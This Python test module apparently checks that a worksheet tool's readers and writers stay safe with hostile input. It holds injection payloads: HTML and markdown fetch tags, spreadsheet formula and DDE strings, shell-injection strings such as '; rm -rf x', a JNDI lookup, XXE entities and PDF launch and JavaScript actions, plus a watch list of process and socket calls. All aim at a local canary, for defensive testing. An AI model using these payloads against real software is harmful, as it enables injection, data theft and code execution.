"""Hostile texts wherever a text can stand: what is written has the structure it has with harmless ones, and is text.

Beside them files that ask for others: none of the program's readers and writers opens a connection or another file.
"""

import csv
import io
import json
import os
import re
import socket
import sys
import tempfile
import zipfile
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import chdir
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, StreamObject, TextStringObject

import attnhand
from attnhand.formats.csv_sheet import render_csv
from attnhand.formats.pdf.pdf import render_pdf
from attnhand.sheet.options import PageOptions
from tests.cli.running import run_here
from tests.formats.hostile import HOSTILE_TEXTS
from tests.spreadsheet_files import write_ods, write_xlsx

URL, SECRET = "http://127.0.0.1:{port}/x", "file://{secret}"
"""What an attack asks for: a server that counts who comes, a file that nobody may read."""

ASKING = (
    '<img src="{u}">',
    '<script src="{u}"></script>', '<link rel="stylesheet" href="{u}">', "<style>@import '{u}';</style>",
    '<iframe src="{u}"></iframe>', '<svg><image href="{u}" xlink:href="{u}"/></svg>', '<object data="{u}"></object>',
    "<p style=\"background:url('{u}')\">x</p>", '<form action="{u}"><input autofocus onfocus="fetch(\'{u}\')">',
    "![x]({u})", "[x]({u})", "<{u}>", '=WEBSERVICE("{u}")', '=HYPERLINK("{u}","x")', "=cmd|'/c calc'!A0",
    '<meta http-equiv="refresh" content="0;url={u}">', '<base href="{u}">', "<!DOCTYPE x SYSTEM '{u}'>",
    '<?xml-stylesheet href="{u}"?>', '<!--#include virtual="{u}"-->', "@import url({u})", "\\input{{{u}}}",
)  # fmt: skip
"""Texts that make a careless reader fetch {u}."""

CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;{u}\x07x\x1b]8;;\x07", "\x9b2J", "\x08\x08\x08", "\r hidden",
    "\u202egnp.exe", "\u2066x\u2069", "\u200f", "\x00", "\x7f", "\ufeff", "\u2028\u2029", "a\nb", "\t=1+1", "\r=1+1",
    "＝1+1", "\U000e0041", "\ufffe", ") /JS (app.alert(1)) /X (", ">> endobj 1 0 obj << /OpenAction", "%%EOF", "\\) (",
    "]]>", "<![CDATA[", "&#x1b;[31m", "${{jndi:ldap://x}}", "$(touch x)", "`touch x`", "; rm -rf x", "%n%s", "\ud7ff",
)  # fmt: skip

TEXTS = (*HOSTILE_TEXTS, *CONTROLS, *(text.replace("{u}", u) for u in (URL, SECRET) for text in ASKING))

RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")
FORMULA = re.compile(r"\s*[=+@\t\r]|\s*-[^0-9∞½/.]")
WATCHED = (
    "socket.connect",
    "socket.getaddrinfo",
    "urllib.Request",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "pty.spawn",
)
ACTIONS = {
    "/JS",
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/GoToR",
    "/GoToE",
    "/ImportData",
    "/OpenAction",
    "/AA",
    "/URI",
}
"""What a PDF can do, or ask for, by itself."""


class _Watch:
    """Notes who connects to a server here, and what Python opens."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.setblocking(False)
        self.secret = Path(tempfile.mkdtemp(), "secret.txt")
        self.secret.write_text("CANARY-5309", encoding="utf-8")
        self.found: list[str] = []
        sys.addaudithook(self._note)

    def _note(self, event: str, arguments: tuple[object, ...]) -> None:
        if event in WATCHED or (event == "open" and str(self.secret) in str(arguments[0])):
            self.found.append(f"{event} {arguments}"[:200])

    def fill(self, text: str) -> str:
        """Put addresses into a text."""
        port = self.server.getsockname()[1]
        return text.replace("{port}", str(port)).replace("{secret}", str(self.secret))

    def take_findings(self) -> list[str]:
        """Return what was noted since the last time."""
        found, self.found = self.found, []
        try:
            self.server.accept()[0].close()
            return [*found, "a connection"]
        except BlockingIOError:
            return found


@cache
def _get_watch() -> _Watch:
    return _Watch()


def _write_problem(text: str) -> tuple[str, ...]:
    data = {"given": {"X": [[1, 2], [0, 1]], "W_Q": [[1, 0]], "W_K": [[0, 1]], "W_V": [[2, 1]]}}
    words = [text.replace(" ", "_")[:40], "b"]
    Path("my.json").write_text(json.dumps({**data, "title": text[:100], "words": words}), encoding="utf-8")
    return ("solve", "my.json", "--pdf", "--html", "--json", "--csv", "--markdown", "--svg", "--png")


def _write_roster(text: str) -> tuple[str, ...]:
    with Path("roster.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("name", "id", "group", "e-mail"), (text, text, text, text), ("Bob", "2", "B", "")])
    return ("class", "roster.csv", "--level", "warm-up", "--seed", "3", "--html", "--jobs", "1", "--salt", "5" * 32)


def _write_answers(text: str) -> tuple[str, ...]:
    Path("in").mkdir()
    sheet = attnhand.generate(7, level="warm-up")
    answers = {"Q": [[text, "1"], ["2"]], "A": [[text]]}
    Path("in/a.json").write_text(json.dumps({"code": sheet.code, "name": text, "answers": answers}), encoding="utf-8")
    Path("in/b.json").write_text(json.dumps({"code": text, "name": text, "answers": answers}), encoding="utf-8")
    table = [*csv.reader(render_csv(sheet.blank).splitlines()), ["name", text]]
    Path("in/c.xlsx").write_bytes(write_xlsx([[cell.translate(_NO_XML) for cell in row] for row in table]))
    name = re.sub(r"[/\0]", "_", text)[:60]
    Path("in", os.fsdecode(f"{name}.csv".encode())).write_text(render_csv(sheet.key), encoding="utf-8")
    return ("grade", "in", "--reports", "--jobs", "1")


_NO_XML = dict.fromkeys((*range(32), 65534, 65535))

PLACES: tuple[Callable[[str], tuple[str, ...]], ...] = (_write_problem, _write_roster, _write_answers)
"""Each writes files that hold the text, and returns the command that reads them."""

TEXT_COUNT = len(TEXTS) * len(PLACES)


def attack_text(number: int) -> str:
    """Put one of the texts in one of the places; return what is other than with a harmless text."""
    place = PLACES[number % len(PLACES)]
    text = _get_watch().fill(TEXTS[number // len(PLACES) % len(TEXTS)])
    code, seen, faults = _run(place, text)
    if code not in (0, 2):
        faults.append(f"exit code {code}")
    if code == 0:
        _, harmless, _ = _harmless(place)
        faults += [f"another structure of {kind}: {seen[kind]}"[:300] for kind in seen if seen[kind] - harmless[kind]]
    return f"{place.__name__} {text!r}: {faults}" if faults else ""


@cache
def _harmless(place: Callable[[str], tuple[str, ...]]) -> tuple[int, Mapping[str, Counter[str]], list[str]]:
    return _run(place, "harmless")


def _run(place: Callable[[str], tuple[str, ...]], text: str) -> tuple[int, dict[str, Counter[str]], list[str]]:
    """Run a command on a text; return its exit code, the structure of what it wrote, and what it may never do."""
    watch, faults = _get_watch(), []
    with tempfile.TemporaryDirectory() as folder, chdir(folder):
        command = place(text)
        given = {path for path in Path().rglob("*") if path.is_file()}
        watch.take_findings()
        ran = run_here(*command)
        faults += watch.take_findings()
        if raw := RAW.findall(ran.text + ran.error_text):
            faults.append(f"raw in the terminal: {raw}")
        written = [path for path in Path().rglob("*") if path.is_file() and path not in given]
        structure: dict[str, Counter[str]] = {kind: Counter() for kind in ("page", "pdf")}
        for path in written:
            data = path.read_bytes()
            if b"CANARY-5309" in data:
                faults.append(f"{path} holds the secret")
            match path.suffix:
                case ".html" | ".svg":
                    structure["page"] |= _Page(data.decode()).parts
                case ".csv" if path.name != "my.csv":
                    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
                    faults += [f"a formula in {path}: {cell!r}" for cell in cells if FORMULA.match(cell)]
                case ".pdf":
                    structure["pdf"] |= Counter(_list_actions(PdfReader(path).trailer, set()))
        return ran.exit_code, structure, faults


def _list_actions(each: object, seen: set[int]) -> set[str]:
    """Return which kinds of action an object of a PDF, and all it leads to, can hold."""
    found: set[str] = set()
    waiting = [each]
    while waiting:
        each = waiting.pop()
        if isinstance(each, IndirectObject):
            if each.idnum in seen:
                continue
            seen.add(each.idnum)
            each = each.get_object()
        if isinstance(each, DictionaryObject):
            found |= {f"{name}" for name in each if name in ACTIONS} | {f"{each.get('/S')}"} & ACTIONS
            waiting += each.values()
        elif isinstance(each, ArrayObject):
            waiting += each
    return found


class _Page(HTMLParser):
    """Which elements and attributes a page has, and where it leads."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.parts: Counter[str] = Counter()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note each kind once: how many there are goes with the text's length."""
        self.parts[tag] = 1
        for name, value in attrs:
            self.parts[f"{tag} {name}"] = 1
            if name in ("src", "href", "xlink:href", "action", "data") and not (value or "").startswith(("#", "data:")):
                self.parts[f"{tag} {name}={value}"] = 1

    def handle_pi(self, data: str) -> None:
        """Note instructions."""
        self.parts[f"?{data[:20]}"] = 1


# files that ask


def _make_form() -> bytes:
    return render_pdf(attnhand.generate(7, level="warm-up", options=PageOptions(fillable=True)).blank)


def _change_form(change: Callable[[PdfWriter, TextStringObject], object]) -> Callable[[str], tuple[str, bytes]]:
    def write(url: str) -> tuple[str, bytes]:
        out = io.BytesIO()
        pdf = PdfWriter(clone_from=io.BytesIO(_make_form()))
        change(pdf, TextStringObject(url))
        pdf.write(out)
        return "form.pdf", out.getvalue()

    return write


def _put(place: Any, name: str, url: TextStringObject) -> object:
    place.get_object()[NameObject(name)] = url
    return place


def _add_action(kind: str, key: str) -> Callable[[str], tuple[str, bytes]]:
    """Return a writer of a form that, when it is opened, does something with an address."""

    def change(pdf: PdfWriter, url: TextStringObject) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): url})
        pdf.root_object[NameObject("/OpenAction")] = action

    return _change_form(change)


def _change_part(
    kind: Callable[[list[list[str]]], bytes], part: str, old: str, new: str
) -> Callable[[str], tuple[str, bytes]]:
    """Return a writer of a spreadsheet, in one part of which something is put."""

    def write(url: str) -> tuple[str, bytes]:
        table = [*csv.reader(render_csv(attnhand.generate(7, level="warm-up").key).splitlines())]
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(kind(table))) as archive, zipfile.ZipFile(out, "w") as copy:
            for name in archive.namelist():
                data = archive.read(name).decode()
                if name.endswith(part):
                    assert re.search(old, data), (name, old)
                    data = re.sub(old, lambda found: new.replace("URL", url).replace("WAS", found[0]), data, count=1)
                copy.writestr(name, data)
        return ("a.xlsx" if kind is write_xlsx else "a.ods"), out.getvalue()

    return write


def _write_text(name: str, text: str) -> Callable[[str], tuple[str, bytes]]:
    return lambda url: (name, text.replace("URL", url).encode())


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "URL"><!ENTITY % p SYSTEM "URL"> %p;]>WAS'
MIMETYPE = "application/vnd.oasis.opendocument.spreadsheet"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ASKING_FILES: tuple[Callable[[str], tuple[str, bytes]], ...] = (
    _change_part(write_xlsx, "sheet1.xml", "<[a-zA-Z]", ENTITY),
    _change_part(write_ods, "content.xml", "<[a-zA-Z]", ENTITY),
    _change_part(write_xlsx, "sheet1.xml", "<v>[^<]*</v>", "<f>WEBSERVICE(&quot;URL&quot;)</f>WAS"),
    _change_part(
        write_xlsx, "workbook.xml.rels", "</Relationships>",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/externalLink" '
        'Target="URL" TargetMode="External"/>WAS',
    ),
    _change_part(write_xlsx, "workbook.xml.rels", 'Target="[^"]*"', 'Target="URL" TargetMode="External"'),
    _change_part(write_ods, "content.xml", "<text:p>", '<text:p><text:a xlink:href="URL">x</text:a>'),
    _write_text("a.json", '{"$ref": "URL", "code": "URL", "sheet": "URL", "answers": {"$ref": "URL"}}'),
    _write_text("a.json", '{"format": "attnhand/1", "story": "URL", "given": {"X": "URL"}, "answers": "URL"}'),
    _write_text("a.csv", "attnhand,URL\r\nQ,URL\r\n"),
    _write_text("a.eml", 'From: a\r\nContent-Type: message/external-body; access-type=URL; URL="URL"\r\n\r\nURL'),
    _write_text("a.html", '<html><base href="URL"><script src="URL"></script><img src="URL"></html>'),
    _write_text("a.svg", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="URL"/></svg>'),
    _write_text("a.url", "[InternetShortcut]\r\nURL=URL\r\n"),
    *(
        _add_action(kind, key)
        for kind, key in (
            ("/URI", "/URI"), ("/GoToR", "/F"), ("/GoToE", "/F"), ("/Launch", "/F"), ("/SubmitForm", "/F"),
            ("/ImportData", "/F"), ("/JavaScript", "/JS"),
        )
    ),
    _change_form(lambda pdf, url: _put(pdf.root_object["/AcroForm"], "/XFA", url)),
    _change_form(lambda pdf, url: _put(pdf.root_object["/Names"], "/URLS", url)),
    _change_form(lambda pdf, url: _put(pdf.root_object, "/URI", url)),
    _change_form(lambda pdf, url: [_put(each, "/F", url) for each in pdf._objects if isinstance(each, StreamObject)]),
)  # fmt: skip

COMMANDS = (
    ("grade", "in", "--reports", "--jobs", "1"),
    ("check", "FILE"),
    ("key", "FILE", "--html", "--pdf"),
    ("class", "FILE"),
)

FETCH_COUNT = len(ASKING_FILES) * len(COMMANDS) * 2


def attack_fetch(number: int) -> str:
    """Give a file that asks for another to a command: nothing is fetched, and nothing crashes."""
    watch = _get_watch()
    write = ASKING_FILES[number % len(ASKING_FILES)]
    command = COMMANDS[number // len(ASKING_FILES) % len(COMMANDS)]
    url = watch.fill((URL, SECRET)[number // (len(ASKING_FILES) * len(COMMANDS)) % 2])
    with tempfile.TemporaryDirectory() as folder, chdir(folder):
        Path("in").mkdir()
        name, data = write(url)
        Path("in", name).write_bytes(data)
        watch.take_findings()
        ran = run_here(*(f"in/{name}" if argument == "FILE" else argument for argument in command))
        faults = watch.take_findings() + ([] if ran.exit_code in (0, 1, 2) else [f"exit code {ran.exit_code}"])
        out = [ran.output, *(path.read_bytes() for path in Path().rglob("*") if path.is_file())]
        faults += ["the secret is in what is written"] if any(b"CANARY-5309" in each for each in out) else []
    return f"{name} {number}: {faults}" if faults else ""
